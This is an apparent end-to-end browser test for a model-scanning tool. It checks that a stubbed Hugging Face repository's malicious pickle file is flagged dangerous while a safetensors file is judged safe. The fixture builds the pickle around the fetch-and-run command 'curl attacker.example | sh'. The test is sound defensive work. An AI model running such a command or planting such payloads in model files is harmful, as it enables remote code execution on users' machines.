import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  benignSafetensors,
  type HubStub,
  maliciousPickle,
  modelCard,
  startHubStub,
} from "../../src/store/connectors/hub-stub.ts";
import { launchChromium, RESULTS_DIR, type ServedAssay, serveAssay, setUpAdminInBrowser } from "./browser.ts";

let assay: ServedAssay;
let browser: Browser;
let page: Page;
let stub: HubStub;
const savedEndpoint = process.env.ASSAY_HF_ENDPOINT;

const ADMIN = {
  email: "ml-lead@example.com",
  password: "a long machine learning lead password",
  name: "ML Lead",
};

beforeAll(async () => {
  stub = await startHubStub({
    "acme/support-tagger": {
      sha: "d".repeat(40),
      files: [
        { path: "README.md", bytes: modelCard() },
        { path: "model.safetensors", bytes: benignSafetensors(), lfs: true },
        { path: "pytorch_model.bin", bytes: maliciousPickle("curl attacker.example | sh"), lfs: true },
      ],
    },
  });
  // The server is a child process: it reads the Hub address from the environment it inherits.
  process.env.ASSAY_HF_ENDPOINT = stub.url;
  assay = await serveAssay();
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
});
afterAll(async () => {
  await browser?.close();
  await assay?.stop();
  await stub?.close();
  if (savedEndpoint === undefined) delete process.env.ASSAY_HF_ENDPOINT;
  else process.env.ASSAY_HF_ENDPOINT = savedEndpoint;
});

describe("Models area", () => {
  it("registers a Hub model, shows the dangerous verdict and the finding, and the vendor reaches tier 3", async () => {
    await setUpAdminInBrowser(page, assay, ADMIN);
    await page.goto(`${assay.url}/vendors/catalog`);
    await page.getByRole("button", { name: "Add Hugging Face", exact: true }).click();
    await page.waitForURL(/\/vendors\/[0-9a-f-]{36}$/);
    const vendorUrl = page.url();

    await page.getByRole("main").getByRole("link", { name: "Models", exact: true }).click();
    await page.getByText("Models of one vendor.").waitFor();
    expect(page.url()).toContain(`vendorId=${vendorUrl.split("/").at(-1)}`);
    await page.getByRole("button", { name: "Register a model" }).click();
    const form = page.getByRole("form", { name: "Register a model" });
    // Opened from the vendor's page, the form has the vendor chosen once the vendor list is in.
    await form.getByRole("option", { name: "Hugging Face" }).waitFor({ state: "attached" });
    await expect(form.getByLabel("Vendor").inputValue()).resolves.toBe(vendorUrl.split("/").at(-1));
    await form.getByLabel("Repository").fill("acme/support-tagger");
    await form.getByRole("button", { name: "Register and scan" }).click();

    await page.waitForURL(/\/models\/[0-9a-f-]{36}$/);
    await page.getByRole("heading", { level: 1 }).filter({ hasText: "acme/support-tagger" }).waitFor();
    const findings = page.getByRole("region", { name: "Findings" });
    await findings.getByText("Dangerous model file pytorch_model.bin").waitFor({ timeout: 30_000 });
    await expect(findings.getByText("critical").first().isVisible()).resolves.toBe(true);
    await expect(page.getByRole("heading", { level: 1 }).getByText("dangerous").isVisible()).resolves.toBe(
      true,
    );

    const pickle = page.getByRole("article", { name: "File pytorch_model.bin" });
    await expect(pickle.getByText("os.system").first().isVisible()).resolves.toBe(true);
    await expect(pickle.getByText("sha256 matches").isVisible()).resolves.toBe(true);
    const weights = page.getByRole("article", { name: "File model.safetensors" });
    await expect(weights.getByText("safe", { exact: true }).isVisible()).resolves.toBe(true);
    await expect(page.getByText("README.md is present.").isVisible()).resolves.toBe(true);
    await page.screenshot({ path: path.join(RESULTS_DIR, "models.png"), fullPage: true });

    await page.getByRole("link", { name: "Hugging Face" }).first().click();
    await page.waitForURL(vendorUrl);
    await page.getByRole("heading", { level: 1 }).getByText("Tier 3").waitFor();
  });

  it("uploads files with the form and lists the model with its verdict", async () => {
    await page.goto(`${assay.url}/models`);
    await page.getByRole("button", { name: "Register a model" }).click();
    const form = page.getByRole("form", { name: "Register a model" });
    await form.getByLabel("Vendor").selectOption({ label: "Hugging Face" });
    await form.getByLabel("Name (optional)").fill("Local sentiment");
    await form.getByLabel("Upload files").check();
    await form.getByLabel("Files", { exact: true }).setInputFiles([
      {
        name: "model.safetensors",
        mimeType: "application/octet-stream",
        buffer: Buffer.from(benignSafetensors()),
      },
      { name: "README.md", mimeType: "text/markdown", buffer: Buffer.from(modelCard()) },
    ]);
    await form.getByRole("button", { name: "Register and scan" }).click();
    await page.waitForURL(/\/models\/[0-9a-f-]{36}$/);
    await page.getByRole("heading", { level: 1 }).filter({ hasText: "Local sentiment" }).waitFor();
    await expect(page.getByRole("heading", { level: 1 }).getByText("safe").isVisible()).resolves.toBe(true);
    await expect(
      page.getByRole("region", { name: "Findings" }).getByText("No open findings.").isVisible(),
    ).resolves.toBe(true);

    await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Models" }).click();
    const rows = page.getByRole("row");
    await rows.filter({ hasText: "Local sentiment" }).getByText("safe", { exact: true }).waitFor();
    await expect(
      rows.filter({ hasText: "acme/support-tagger" }).getByText("dangerous", { exact: true }).isVisible(),
    ).resolves.toBe(true);
  });
});
